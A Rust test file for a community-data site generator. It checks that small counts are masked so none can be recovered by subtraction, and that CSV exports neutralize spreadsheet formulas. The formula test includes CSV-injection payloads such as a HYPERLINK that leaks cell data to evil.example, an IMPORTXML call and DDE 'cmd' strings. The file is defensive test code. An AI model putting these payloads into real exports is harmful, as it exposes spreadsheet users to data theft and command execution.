//! Hostile or careless content: no masked count can be worked out from a public build (by
//! subtraction from the total, by adding up parts, or from the marks), and no cell of a CSV
//! export is a formula a spreadsheet would run.

use std::collections::BTreeMap;
use std::path::Path;

use calamine::{Data, Reader, Xlsx, open_workbook};
use serde_json::Value;

use crate::html::copy_site;
use crate::support::{fixture, run};

const THRESHOLD: u64 = 5;
const INDICATOR: &str = "returnees-last-12-months";

fn build(root: &Path, args: &[&str]) {
    let mut all = vec!["build"];
    all.extend(args);
    let result = run(root, &all);
    assert_eq!(result.code, 0, "build failed:\n{}", result.stderr);
}

/// A count as a public file shows it.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Seen {
    Exact(u64),
    Below,
    AtLeast,
}

impl Seen {
    fn of(value: &Value) -> Seen {
        match value {
            Value::Number(n) => Seen::Exact(n.as_u64().unwrap()),
            Value::String(s) if *s == format!("<{THRESHOLD}") => Seen::Below,
            Value::String(s) if *s == format!("≥{THRESHOLD}") => Seen::AtLeast,
            other => panic!("a count shown as {other}"),
        }
    }

    fn masked(self) -> bool {
        !matches!(self, Seen::Exact(_))
    }

    /// As `value_text` and the pages show it.
    fn text(self) -> String {
        match self {
            Seen::Exact(v) => v.to_string(),
            Seen::Below => format!("<{THRESHOLD}"),
            Seen::AtLeast => format!("≥{THRESHOLD}"),
        }
    }
}

/// One dimension: part names, true values (from the internal build) and what the public
/// build shows (`None` if it is not published).
struct Dimension {
    id: String,
    names: Vec<String>,
    truth: Vec<u64>,
    seen: Option<Vec<Seen>>,
}

/// Every filling-in of a dimension's masked parts that agrees with what is shown, adding up
/// to `sum` if given. A reader who has read the README knows that `<5` is 0 to 4 (and not 0
/// where the parts add up to 5 or more, as zeros are shown there), and that `≥5` is 5 or more
/// and no larger than a part still shown.
fn fillings(seen: &[Seen], sum: Option<u64>, cap: u64) -> Vec<Vec<u64>> {
    let smallest = seen.iter().filter_map(|s| if let Seen::Exact(v) = s { Some(*v) } else { None });
    let smallest = smallest.filter(|&v| v > 0).min().unwrap_or(cap);
    let mut out: Vec<Vec<u64>> = vec![Vec::new()];
    for s in seen {
        let values: Vec<u64> = match *s {
            Seen::Exact(v) => vec![v],
            Seen::Below => (0..THRESHOLD).collect(),
            Seen::AtLeast => (THRESHOLD..=smallest.min(sum.unwrap_or(cap))).collect(),
        };
        out = out
            .into_iter()
            .flat_map(|f| values.iter().map(move |&v| [f.clone(), vec![v]].concat()))
            .filter(|f| sum.is_none_or(|s| f.iter().sum::<u64>() <= s))
            .collect();
    }
    out.retain(|f| {
        let total: u64 = f.iter().sum();
        let zeros_shown = total >= THRESHOLD;
        sum.is_none_or(|s| s == total)
            && f.iter().zip(seen).all(|(&v, s)| !(zeros_shown && *s == Seen::Below && v == 0))
    });
    out
}

/// What a reader can work out of one indicator: a description of the first masked count (or
/// masked total) that only one value fits, if any.
fn derivable(total: Seen, true_total: u64, dims: &[Dimension]) -> Option<String> {
    let cap = true_total + 3 * THRESHOLD + 5;
    let totals: Vec<u64> = match total {
        Seen::Exact(v) => vec![v],
        Seen::Below => (1..THRESHOLD).collect(),
        Seen::AtLeast => (THRESHOLD..=cap).collect(),
    };
    let mut possible_totals = Vec::new();
    let mut possible: Vec<Vec<Vec<u64>>> = dims.iter().map(|d| vec![Vec::new(); d.names.len()]).collect();
    let tied = |d: &Dimension| d.truth.iter().sum::<u64>() == true_total;
    for &tau in &totals {
        let all: Vec<Option<Vec<Vec<u64>>>> =
            dims.iter().map(|d| d.seen.as_ref().map(|s| fillings(s, tied(d).then_some(tau), cap))).collect();
        if all.iter().flatten().zip(dims.iter().filter(|d| d.seen.is_some())).any(|(f, d)| tied(d) && f.is_empty()) {
            continue;
        }
        possible_totals.push(tau);
        for (k, fills) in all.iter().enumerate() {
            for fill in fills.iter().flatten() {
                for (i, v) in fill.iter().enumerate() {
                    if !possible[k][i].contains(v) {
                        possible[k][i].push(*v);
                    }
                }
            }
        }
    }
    if total.masked() && possible_totals.len() < 2 {
        return Some(format!("the total is {possible_totals:?}"));
    }
    for (k, d) in dims.iter().enumerate() {
        for (i, s) in d.seen.iter().flatten().enumerate() {
            if s.masked() && possible[k][i].len() < 2 {
                return Some(format!("{} {} is {:?}", d.id, d.names[i], possible[k][i]));
            }
        }
    }
    None
}

fn json(path: &Path) -> Value {
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

/// `data/indicators.csv` of a built site: (community, dimension, part) to (value, value_text).
fn csv_cells(site: &Path) -> BTreeMap<(String, String, String), (String, String)> {
    let bytes = std::fs::read(site.join("data/indicators.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    let at = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let mut out = BTreeMap::new();
    for record in reader.records().skip(1) {
        let r = record.unwrap();
        if &r[at("indicator_id")] == INDICATOR {
            let key = (r[at("community_id")].to_string(), r[at("dimension")].to_string(), r[at("part")].to_string());
            out.insert(key, (r[at("value")].to_string(), r[at("value_text")].to_string()));
        }
    }
    out
}

/// The `indicators` sheet of `data/communities.xlsx`, keyed as [`csv_cells`], each cell as the
/// CSV writes it.
fn xlsx_cells(site: &Path) -> BTreeMap<(String, String, String), (String, String)> {
    let mut book: Xlsx<_> = open_workbook(site.join("data/communities.xlsx")).unwrap();
    let range = book.worksheet_range("indicators").unwrap();
    let rows: Vec<Vec<String>> = range
        .rows()
        .map(|row| {
            row.iter()
                .map(|cell| match cell {
                    Data::Empty => String::new(),
                    Data::String(s) => s.clone(),
                    Data::Float(f) if f.fract() == 0.0 => (*f as i64).to_string(),
                    Data::Int(i) => i.to_string(),
                    other => other.to_string(),
                })
                .collect()
        })
        .collect();
    let at = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    let mut out = BTreeMap::new();
    // Past the header and the HXL row.
    for r in rows.iter().skip(2).filter(|r| r[at("indicator_id")] == INDICATOR) {
        let key = (r[at("community_id")].clone(), r[at("dimension")].clone(), r[at("part")].clone());
        out.insert(key, (r[at("value")].clone(), r[at("value_text")].clone()));
    }
    out
}

/// Every published word of the search index that is a number, with the documents it lists.
fn search_numbers(site: &Path) -> (Vec<String>, BTreeMap<String, Vec<usize>>) {
    let docs = std::fs::read_to_string(site.join("search/docs-0.js")).unwrap();
    let docs: Value = serde_json::from_str(&docs[docs.find('[').unwrap()..docs.rfind(')').unwrap()]).unwrap();
    let paths = docs.as_array().unwrap().iter().map(|d| d[2].as_str().unwrap().to_string()).collect();
    let mut terms = BTreeMap::new();
    for digit in '0'..='9' {
        let Ok(text) = std::fs::read_to_string(site.join(format!("search/terms-{digit}.js"))) else { continue };
        let map: Value = serde_json::from_str(&text[text.find('{').unwrap()..text.rfind(')').unwrap()]).unwrap();
        for (word, postings) in map.as_object().unwrap() {
            let docs = postings
                .as_str()
                .unwrap()
                .split(',')
                .map(|p| usize::from_str_radix(p.split('.').next().unwrap(), 36).unwrap());
            terms.insert(word.clone(), docs.collect());
        }
    }
    (paths, terms)
}

/// The dimensions' labels, as pages show them.
const LABELS: [(&str, &str); 3] = [("sex", "Sex"), ("age-group", "Age group"), ("migrant-status", "Migrant status")];

/// The parts lists of a page for the dimension `label` (`<li>Sex: female &lt;5, male ≥5</li>`),
/// each as part name to value shown.
fn parts_lists(html: &str, label: &str) -> Vec<BTreeMap<String, String>> {
    let start = format!("<li>{label}: ");
    html.match_indices(&start)
        .map(|(at, _)| {
            let rest = &html[at + start.len()..];
            let list = &rest[..rest.find("</li>").unwrap()];
            list.split(", ")
                .map(|p| {
                    let (name, value) = p.rsplit_once(' ').unwrap();
                    (name.to_string(), value.to_string())
                })
                .collect()
        })
        .collect()
}

#[test]
fn no_masked_count_can_be_worked_out_from_a_public_build() {
    let root = copy_site(&fixture("disclosure/subtraction"), "disclosure-subtraction");
    build(&root, &["--include-confidential"]);
    build(&root, &[]);
    let (public, internal) = (root.join("site"), root.join("site-internal"));
    let cells = csv_cells(&public);
    assert_eq!(xlsx_cells(&public), cells, "the spreadsheet shows what the CSV shows");
    let features = json(&public.join("data/communities.geojson"))["features"].as_array().unwrap().clone();
    let mut mapped = 0;
    let indicator_page = std::fs::read_to_string(public.join(format!("indicators/{INDICATOR}.html"))).unwrap();
    let (doc_paths, numbers) = search_numbers(&public);
    let mut checked = 0;
    let mut masked_totals = 0;
    for entry in std::fs::read_dir(internal.join("data/communities")).unwrap() {
        let path = entry.unwrap().path();
        let id = path.file_stem().unwrap().to_str().unwrap().to_string();
        let truth = &json(&path)["indicators"][INDICATOR];
        let shown = &json(&public.join(format!("data/communities/{id}.json")))["indicators"][INDICATOR];
        let true_total = truth["value"].as_u64().unwrap();
        let total = Seen::of(&shown["value"]);
        // An entry written as its value alone has no parts.
        let no_parts = serde_json::Map::new();
        let dims: Vec<Dimension> = truth
            .get("disaggregation")
            .map_or(&no_parts, |d| d.as_object().unwrap())
            .iter()
            .map(|(dim, parts)| {
                let parts = parts.as_object().unwrap();
                let seen = shown["disaggregation"].get(dim).map(|p| {
                    let p = p.as_object().unwrap();
                    assert_eq!(p.keys().collect::<Vec<_>>(), parts.keys().collect::<Vec<_>>(), "{id} {dim}");
                    p.values().map(Seen::of).collect()
                });
                Dimension {
                    id: dim.clone(),
                    names: parts.keys().cloned().collect(),
                    truth: parts.values().map(|v| v.as_u64().unwrap()).collect(),
                    seen,
                }
            })
            .collect();
        if let Some(found) = derivable(total, true_total, &dims) {
            panic!("{id}: {found}, from what the public build shows");
        }
        // The CSV, the profile page and the indicator page show the same as the JSON export.
        let page = std::fs::read_to_string(public.join(format!("communities/{id}.html"))).unwrap();
        let total_key = (id.clone(), String::new(), String::new());
        let total_number = if total.masked() { String::new() } else { true_total.to_string() };
        assert_eq!(cells[&total_key].0, total_number, "{id}: the CSV's total");
        assert!(cells[&total_key].1.starts_with(&total.text()), "{id}: the CSV's total as shown");
        for d in &dims {
            let Some(seen) = &d.seen else {
                assert!(!cells.keys().any(|k| k.0 == id && k.1 == d.id), "{id}: a withheld {} is in the CSV", d.id);
                continue;
            };
            let label = LABELS.iter().find(|(i, _)| *i == d.id).unwrap().1;
            let shown: BTreeMap<String, String> =
                d.names.iter().zip(seen).map(|(n, s)| (n.clone(), s.text().replace('<', "&lt;"))).collect();
            assert!(parts_lists(&page, label).contains(&shown), "{id}: the page does not show {shown:?}");
            assert!(
                parts_lists(&indicator_page, label).contains(&shown),
                "{id}: the indicator page does not show {shown:?}"
            );
            for (name, s) in d.names.iter().zip(seen) {
                let (value, text) = &cells[&(id.clone(), d.id.clone(), name.clone())];
                assert_eq!(text, &s.text(), "{id} {} {name} in the CSV", d.id);
                assert_eq!(value.is_empty(), s.masked(), "{id} {} {name}: the CSV's number", d.id);
            }
        }
        // A masked total is not in the search index (nor drawn in the chart: it has no bar).
        let doc = doc_paths.iter().position(|p| *p == format!("communities/{id}.html")).unwrap();
        let indexed = numbers.get(&true_total.to_string()).is_some_and(|docs| docs.contains(&doc));
        assert_eq!(indexed, !total.masked(), "{id}: its total {true_total} in the search index");
        if total.masked() {
            masked_totals += 1;
            let title = json(&path)["title"].as_str().unwrap().to_string();
            assert!(!indicator_page.contains(&format!("{title}: {true_total}")), "{id}: its total is charted");
        }
        // The GeoJSON (and so the maps) give the total as a number only when it is shown.
        if let Some(feature) = features.iter().find(|f| f["id"] == id.as_str()) {
            let value = &feature["properties"][INDICATOR];
            let expected = (!total.masked()).then_some(true_total as f64);
            assert_eq!(value.as_f64(), expected, "{id}: its total in the GeoJSON ({value})");
            mapped += usize::from(total.masked());
        }
        checked += 1;
    }
    assert_eq!(checked, 10, "every profile was checked");
    assert_eq!(masked_totals, 4, "the fixture has four totals that must be masked (two of them small)");
    assert_eq!(mapped, 1, "a located profile's small total was looked for in the GeoJSON");
    // The internal build shows every figure as it is.
    let page = std::fs::read_to_string(internal.join("communities/nine.html")).unwrap();
    assert!(page.contains("female 2, male 7"), "the internal build masks counts");
}

#[test]
fn the_checker_finds_what_masking_small_counts_alone_leaves() {
    // Nine returnees, seven men, "<5" women: the 2 is 9 - 7.
    let dims =
        [Dimension { id: "sex".into(), names: vec!["female".into(), "male".into()], truth: vec![2, 7], seen: None }];
    let naive = [Dimension { seen: Some(vec![Seen::Below, Seen::Exact(7)]), ..dims.into_iter().next().unwrap() }];
    assert_eq!(derivable(Seen::Exact(9), 9, &naive), Some("sex female is [2]".into()));
    let masked = [Dimension { seen: Some(vec![Seen::Below, Seen::AtLeast]), ..naive.into_iter().next().unwrap() }];
    assert_eq!(derivable(Seen::Exact(9), 9, &masked), None);
}

#[test]
fn themes_get_only_masked_values() {
    let root = copy_site(&fixture("disclosure/subtraction"), "disclosure-theme");
    let templates = root.join("themes/default/templates");
    std::fs::create_dir_all(&templates).unwrap();
    std::fs::write(
        templates.join("community.html"),
        "{% for g in groups %}{% for r in g.rows %}{% if r.given %}<p>{{ r.value }}\
         {% for d in r.disaggregation %}|{{ d.label }}:{% for p in d.parts %} {{ p.name }}={{ p.value }}/{{ p.share }}/{{ p.masked }}\
         {% endfor %}{% endfor %}</p>{% endif %}{% endfor %}{% endfor %}",
    )
    .unwrap();
    build(&root, &[]);
    let page = std::fs::read_to_string(root.join("site/communities/nine.html")).unwrap();
    assert!(page.contains("<p>9|Sex: female=&lt;5/0.0/true male=≥5/0.0/true|Age group:"), "{page}");
    let page = std::fs::read_to_string(root.join("site/communities/eight.html")).unwrap();
    assert!(page.contains("<p>≥5|Sex: female=&lt;5/0.0/true male=&lt;5/0.0/true"), "{page}");
    let page = std::fs::read_to_string(root.join("site/communities/all-men.html")).unwrap();
    assert!(page.contains("<p>9|Sex: female=0/0.0/false male=9/9.0/false"), "{page}");
    // A small total, with parts and without.
    let page = std::fs::read_to_string(root.join("site/communities/three.html")).unwrap();
    assert!(page.contains("<p>&lt;5|Sex: female=&lt;5/0.0/true male=&lt;5/0.0/true"), "{page}");
    let page = std::fs::read_to_string(root.join("site/communities/lone.html")).unwrap();
    assert!(page.contains("<p>&lt;5</p>"), "{page}");
    build(&root, &["--include-confidential"]);
    let page = std::fs::read_to_string(root.join("site-internal/communities/nine.html")).unwrap();
    assert!(page.contains("<p>9|Sex: female=2/2.0/false male=7/7.0/false"), "{page}");
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_neutralized() {
    let root = copy_site(&fixture("disclosure/formulas"), "disclosure-formulas");
    build(&root, &[]);
    let read = |name: &str| {
        let bytes = std::fs::read(root.join("site/data").join(name)).unwrap();
        let mut reader = csv::Reader::from_reader(&bytes[3..]);
        let headers = reader.headers().unwrap().clone();
        let rows: Vec<BTreeMap<String, String>> = reader
            .records()
            .skip(1)
            .map(|r| headers.iter().zip(r.unwrap().iter()).map(|(h, v)| (h.to_string(), v.to_string())).collect())
            .collect();
        rows
    };
    let indicators = read("indicators.csv");
    let row = |id: &str| indicators.iter().find(|r| r["indicator_id"] == id).unwrap();
    let temperature = row("temperature-change");
    assert_eq!(temperature["community"], "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")");
    assert_eq!(temperature["country"], "'@SUM(A1:A9)");
    assert_eq!(temperature["admin1"], "'+cmd|' /C calc'!A0");
    assert_eq!(temperature["admin2"], "'-2+3");
    assert_eq!(temperature["place_code"], "'=1+1");
    assert_eq!(temperature["source"], "'-2+3+cmd|' /C notepad'!A0");
    // A negative number stays a number; the same figure with its unit is text, and guarded.
    assert_eq!(temperature["value"], "-3.5");
    assert_eq!(temperature["value_text"], "'-3.5 °C");
    assert_eq!(row("migration-rates")["value"], "12");
    let criteria = read("criteria.csv");
    let criterion = |id: &str| criteria.iter().find(|r| r["criterion_id"] == id).unwrap();
    assert_eq!(criterion("returnee-numbers")["evidence"], "'=IMPORTXML(\"https://evil.example\",\"//a\")");
    assert_eq!(criterion("returnee-numbers")["place_code"], "'=1+1");
    // Evidence that is a plain number is not changed.
    assert_eq!(criterion("community-interest")["evidence"], "-3");
    // Pages show the text as written.
    let page = std::fs::read_to_string(root.join("site/communities/payloads.html")).unwrap();
    assert!(page.contains("=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)"));
}

#[test]
fn check_warns_about_a_small_total_at_its_value() {
    let root = copy_site(&fixture("disclosure/subtraction"), "disclosure-small-total-check");
    let result = run(&root, &["check", "--all"]);
    assert_eq!(result.code, 0, "{}", result.stderr);
    let warning = format!(
        "warning[small-count]: `{INDICATOR}` is 3, below the privacy threshold of {THRESHOLD}: public pages show it as <{THRESHOLD}\n  --> content/communities/lone.md:11:29"
    );
    assert!(result.stderr.contains(&warning), "{}", result.stderr);
    // Written as a table, it is located at its `value`.
    assert!(result.stderr.contains("  --> content/communities/three.md:11:12"), "{}", result.stderr);
    // A total of 0 is nobody: no warning.
    std::fs::write(
        root.join("content/communities/lone.md"),
        std::fs::read_to_string(root.join("content/communities/lone.md")).unwrap().replace(": 3\n", ": 0\n"),
    )
    .unwrap();
    let result = run(&root, &["check", "--all"]);
    assert!(!result.stderr.contains("content/communities/lone.md:11:29"), "{}", result.stderr);
}

#[test]
fn a_total_that_its_mark_would_give_away_is_left_out_of_every_public_file() {
    // With a threshold of 2, `<2` of a count that is not 0 can only be 1.
    let root = copy_site(&fixture("disclosure/subtraction"), "disclosure-threshold-two");
    std::fs::write(
        root.join("fieldbook.toml"),
        "title = \"Subtraction site\"\n\n[privacy]\nsmall_count_threshold = 2\n",
    )
    .unwrap();
    let lone = root.join("content/communities/lone.md");
    std::fs::write(&lone, std::fs::read_to_string(&lone).unwrap().replace(": 3\n", ": 1\n")).unwrap();
    let result = run(&root, &["check", "--all"]);
    assert!(
        result
            .stderr
            .contains(&format!("`{INDICATOR}` is 1, below the privacy threshold of 2: public pages leave it out")),
        "{}",
        result.stderr
    );
    build(&root, &["--include-confidential"]);
    build(&root, &[]);
    let (public, internal) = (root.join("site"), root.join("site-internal"));
    assert_eq!(json(&internal.join("data/communities/lone.json"))["indicators"][INDICATOR]["value"], 1);
    assert!(json(&public.join("data/communities/lone.json"))["indicators"].get(INDICATOR).is_none());
    assert!(!csv_cells(&public).keys().any(|k| k.0 == "lone"), "the CSV leaves it out");
    assert!(!xlsx_cells(&public).keys().any(|k| k.0 == "lone"), "the spreadsheet leaves it out");
    let feature = json(&public.join("data/communities.geojson"))["features"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == "lone")
        .cloned()
        .unwrap();
    assert_eq!(feature["properties"][INDICATOR], Value::Null);
    let indicator_page = std::fs::read_to_string(public.join(format!("indicators/{INDICATOR}.html"))).unwrap();
    // The comparison and its map leave it out, and list it with the profiles that do not give
    // it: a count beside the comparison would say that a figure is there and hidden.
    assert!(!indicator_page.contains("communities/lone.html#indicators"), "the comparison lists it");
    assert!(
        indicator_page
            .contains("without this indicator</h2><ul class=\"inline-list\"><li><a href=\"../communities/lone.html\">"),
        "{indicator_page}"
    );
    assert!(indicator_page.contains("given by 9 of 10"), "{indicator_page}");
    let internal_indicator = std::fs::read_to_string(internal.join(format!("indicators/{INDICATOR}.html"))).unwrap();
    assert!(internal_indicator.contains("given by 10 of 10"), "{internal_indicator}");
    let page = std::fs::read_to_string(public.join("communities/lone.html")).unwrap();
    let internal_page = std::fs::read_to_string(internal.join("communities/lone.html")).unwrap();
    let row =
        |value: &str| format!("Returnees in the last 12 months</a></th>\n<td><span class=\"value\">{value}</span>");
    assert!(page.contains(&row("Not given")), "the profile shows it as not given:\n{page}");
    assert!(internal_page.contains(&row("1")), "the internal build shows it:\n{internal_page}");
    let (doc_paths, numbers) = search_numbers(&public);
    let doc = doc_paths.iter().position(|p| p == "communities/lone.html").unwrap();
    assert!(!numbers.get("1").is_some_and(|docs| docs.contains(&doc)), "its total is in the search index");
}
